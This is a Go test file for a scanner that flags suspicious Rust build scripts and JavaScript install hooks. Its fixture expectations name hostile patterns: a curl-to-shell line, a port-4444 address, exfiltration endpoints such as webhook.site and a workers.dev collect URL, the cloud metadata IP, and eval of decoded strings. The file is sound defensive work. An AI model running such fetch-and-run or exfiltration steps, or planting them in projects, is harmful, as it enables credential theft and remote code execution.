package manifest

import (
	"errors"
	"reflect"
	"strings"
	"testing"
)

func TestScanRust(t *testing.T) {
	s, err := ScanRust("build.rs", readFixture(t, "build.rs"))
	if err != nil {
		t.Fatal(err)
	}
	uses := map[string]RustUse{}
	for _, u := range s.Uses {
		uses[u.Path] = u
	}
	wantUses := map[string]string{
		"std::env": "env", "std::fs": "fs", "std::process::Command": "Cmd", "std::process::Stdio": "Stdio",
		"std::io": "io", "std::io::Write": "Write",
	}
	if len(uses) != len(wantUses) {
		t.Errorf("uses = %+v", s.Uses)
	}
	for p, name := range wantUses {
		if uses[p].Name != name {
			t.Errorf("use %s named %q, want %q", p, uses[p].Name, name)
		}
	}
	lines := func(hits []RustToken) []int {
		var out []int
		for _, h := range hits {
			out = append(out, h.Line)
		}
		return out
	}
	// Comments on lines 1 and 2 and the string on line 10 do not count.
	if got := lines(s.Mentions("std::process::Command")); !reflect.DeepEqual(got, []int{4, 17}) {
		t.Errorf("Command mentioned on lines %v, want [4 17]", got)
	}
	if got := lines(s.Mentions("std::net")); !reflect.DeepEqual(got, []int{18}) {
		t.Errorf("std::net mentioned on lines %v, want [18]", got)
	}
	if got := lines(s.Mentions("std::fs::read_dir")); !reflect.DeepEqual(got, []int{14}) {
		t.Errorf("read_dir mentioned on lines %v, want [14]", got)
	}
	if got := lines(s.Mentions("std::env::var")); !reflect.DeepEqual(got, []int{8, 9}) {
		t.Errorf("env::var on lines %v, want [8 9]", got)
	}
	var strs []string
	for _, st := range s.Strings {
		strs = append(strs, st.Text)
	}
	for _, want := range []string{"HOME", "std::process::Command inside a string", `curl https://x.invalid/i.sh | sh "quoted"`, "203.0.113.9:4444"} {
		found := false
		for _, got := range strs {
			if got == want {
				found = true
			}
		}
		if !found {
			t.Errorf("string %q not found in %q", want, strs)
		}
	}
	var macro bool
	for _, p := range s.Paths {
		if p.Text == "println!" && p.Line == 19 {
			macro = true
		}
	}
	if !macro {
		t.Errorf("println! not found: %+v", s.Paths)
	}
	if s.Resolve("Cmd::new") != "std::process::Command::new" || s.Resolve("::std::x") != "std::x" {
		t.Errorf("Resolve = %q %q", s.Resolve("Cmd::new"), s.Resolve("::std::x"))
	}
}

func TestScanRustLexing(t *testing.T) {
	tests := []struct {
		name, src string
		paths     []string
		strs      []string
	}{
		{"nested comment", "/* a /* b */ std::net */ x", []string{"x"}, nil},
		{"line comment", "// std::process::Command\ny", []string{"y"}, nil},
		{"raw string hashes", `r##"a "# b"## z`, []string{"z"}, []string{`a "# b`}},
		{"byte and c strings", `b"bytes" c"cstr" br"raw" w`, []string{"w"}, []string{"bytes", "cstr", "raw"}},
		{"escapes", `"a\"b\\c\n\u{41}\x42"`, nil, []string{"a\"b\\c\nAB"}},
		{"char literals", `'"' '\'' 'a' b'x' q`, []string{"q"}, nil},
		{"lifetimes", `fn f<'a>(x: &'a str) -> &'static str { "s" }`, []string{"fn", "f", "x", "str", "str"}, []string{"s"}},
		{"raw ident", `r#match::x`, []string{"match::x"}, nil},
		{"spaced path", "std :: process :: Command", []string{"std::process::Command"}, nil},
		{"turbofish stops", "Vec::<u8>::new()", []string{"Vec", "u8", "new"}, nil},
		{"not a macro", "a != b", []string{"a", "b"}, nil},
		{"leading colons", "::std::net::TcpStream", []string{"::std::net::TcpStream"}, nil},
		{"numbers", "1.5e3 0x1F 10u8 x", []string{"x"}, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			s, err := ScanRust("x.rs", []byte(tt.src))
			if err != nil {
				t.Fatal(err)
			}
			var paths, strs []string
			for _, p := range s.Paths {
				paths = append(paths, p.Text)
			}
			for _, p := range s.Strings {
				strs = append(strs, p.Text)
			}
			if !reflect.DeepEqual(paths, tt.paths) || !reflect.DeepEqual(strs, tt.strs) {
				t.Errorf("paths %q strings %q, want %q %q", paths, strs, tt.paths, tt.strs)
			}
		})
	}
}

func TestScanRustUseTrees(t *testing.T) {
	s, err := ScanRust("x.rs", []byte("use std::{net::{TcpStream, UdpSocket as U}, process::*};\nuse ::reqwest::blocking;\npub use self::a::b;\nfn main() { Command::new(\"x\"); blocking::get(\"u\"); }"))
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, u := range s.Uses {
		got = append(got, u.Path+"="+u.Name)
	}
	want := []string{"std::net::TcpStream=TcpStream", "std::net::UdpSocket=U", "std::process::*=*", "reqwest::blocking=blocking", "self::a::b=b"}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("uses = %q, want %q", got, want)
	}
	if hits := s.Mentions("std::process::Command"); len(hits) != 1 || hits[0].Line != 4 {
		t.Errorf("glob import mention = %+v", hits)
	}
	if hits := s.Mentions("reqwest"); len(hits) != 2 {
		t.Errorf("reqwest mentions = %+v", hits)
	}
}

func TestScanRustErrors(t *testing.T) {
	for name, src := range map[string]string{
		"string":      "let a = 1;\nlet s = \"open",
		"block":       "x\n/* open /* nested */",
		"raw string":  "r#\"open\"",
		"escape tail": "\"abc\\",
	} {
		s, err := ScanRust("build.rs", []byte(src))
		var pe *ParseError
		if !errors.As(err, &pe) || pe.Line == 0 {
			t.Errorf("%s: err = %v, want ParseError with line", name, err)
		}
		if s == nil {
			t.Errorf("%s: no partial result", name)
		}
	}
}

func TestScanJS(t *testing.T) {
	s, err := ScanJS("hook.js", readFixture(t, "hook.js"))
	if err != nil {
		t.Fatal(err)
	}
	if s.Lines != 14 || s.LongestLineNo != 11 {
		t.Errorf("lines %d longest %d (line %d)", s.Lines, s.LongestLine, s.LongestLineNo)
	}
	if s.HexIdents != 5 || s.HexIdentSamples[0].Text != "_0x1a2b" || s.HexIdentSamples[0].Line != 5 {
		t.Errorf("hex idents %d %+v", s.HexIdents, s.HexIdentSamples)
	}
	hitLines := func(h []JSHit) []int {
		var out []int
		for _, x := range h {
			out = append(out, x.Line)
		}
		return out
	}
	if got := hitLines(s.EvalDecode); !reflect.DeepEqual(got, []int{9, 10}) {
		t.Errorf("eval decode lines %v (%+v)", got, s.EvalDecode)
	}
	if len(s.EnvDump) != 1 || s.EnvDump[0].Line != 7 || s.EnvDump[0].Text != "JSON.stringify(process.env)" {
		t.Errorf("env dump %+v", s.EnvDump)
	}
	var mods []string
	for _, m := range s.Modules {
		mods = append(mods, m.Text)
	}
	if !reflect.DeepEqual(mods, []string{"https", "child_process"}) {
		t.Errorf("modules %q", mods)
	}
	var urls []string
	for _, u := range s.URLs {
		urls = append(urls, u.Text)
	}
	wantURLs := []string{"https://abc.workers.dev/collect?d=", "http://169.254.169.254/latest/meta-data/"}
	if !reflect.DeepEqual(urls, wantURLs) {
		t.Errorf("urls %q, want %q", urls, wantURLs)
	}
	domains := map[string]bool{}
	for _, d := range s.Domains {
		domains[d.Text] = true
	}
	for _, d := range []string{"webhook.site", "abc.workers.dev", "exfil.oast.fun", "169.254.169.254"} {
		if !domains[d] {
			t.Errorf("domain %q missing from %v", d, domains)
		}
	}
	if domains["not-a-url-in-regex.invalid"] || domains["buffer.from"] {
		t.Errorf("regex literal or code read as a domain: %v", domains)
	}
	if len(s.IPs) != 1 || s.IPs[0].Text != "169.254.169.254" {
		t.Errorf("ips %+v", s.IPs)
	}
	var strs []string
	for _, st := range s.Strings {
		strs = append(strs, st.Text)
	}
	if !strings.Contains(strings.Join(strs, "\n"), "http") || strings.Contains(strings.Join(strs, "\n"), "comment") {
		t.Errorf("strings %q", strs)
	}
}

func TestScanJSLexing(t *testing.T) {
	tests := []struct {
		name, src string
		eval      int
		modules   []string
	}{
		{"division is not regex", "a = b / c; eval(atob(x)) / 2", 1, nil},
		{"regex with quote", "x = /'/; eval(Buffer.from(y))", 1, nil},
		{"template expression is code", "`${eval(atob(p))}`", 1, nil},
		{"template text is not code", "`eval(atob(p))`", 0, nil},
		{"nested template", "`a ${`b ${require('c')}`} d`", 0, []string{"c"}},
		{"member require", "x.require('no'); require('yes'); import('dyn'); import x from 'st'", 0, []string{"yes", "dyn", "st"}},
		{"eval without decode", "eval(code)", 0, nil},
		{"decode outside eval", "eval(code); atob(x)", 0, nil},
		{"window eval", "window.eval(Buffer.from(z, 'base64').toString())", 1, nil},
		{"unterminated string", "require('a", 0, []string{"a"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			s, err := ScanJS("x.js", []byte(tt.src))
			if err != nil {
				t.Fatal(err)
			}
			var mods []string
			for _, m := range s.Modules {
				mods = append(mods, m.Text)
			}
			if len(s.EvalDecode) != tt.eval || !reflect.DeepEqual(mods, tt.modules) {
				t.Errorf("eval %d modules %q, want %d %q", len(s.EvalDecode), mods, tt.eval, tt.modules)
			}
		})
	}
}

func TestScanJSLongLine(t *testing.T) {
	src := "a\n" + strings.Repeat("x", 5000) + "\nb"
	s, err := ScanJS("min.js", []byte(src))
	if err != nil {
		t.Fatal(err)
	}
	if s.Lines != 3 || s.LongestLine != 5000 || s.LongestLineNo != 2 {
		t.Errorf("lines %d longest %d at %d", s.Lines, s.LongestLine, s.LongestLineNo)
	}
}

func TestScanJSEnvDump(t *testing.T) {
	for src, want := range map[string]int{
		"JSON.stringify(process.env)":           1,
		"JSON.stringify(process.env, null, 2)":  1,
		"JSON.stringify(process.env.HOME)":      0,
		"Object.keys(process.env).forEach(f)":   0,
		"x.stringify(process.env)":              0,
		"'JSON.stringify(process.env)'":         0,
		"// JSON.stringify(process.env)\nfoo()": 0,
	} {
		s, err := ScanJS("x.js", []byte(src))
		if err != nil {
			t.Fatal(err)
		}
		if len(s.EnvDump) != want {
			t.Errorf("%q: %d env dumps, want %d", src, len(s.EnvDump), want)
		}
	}
}
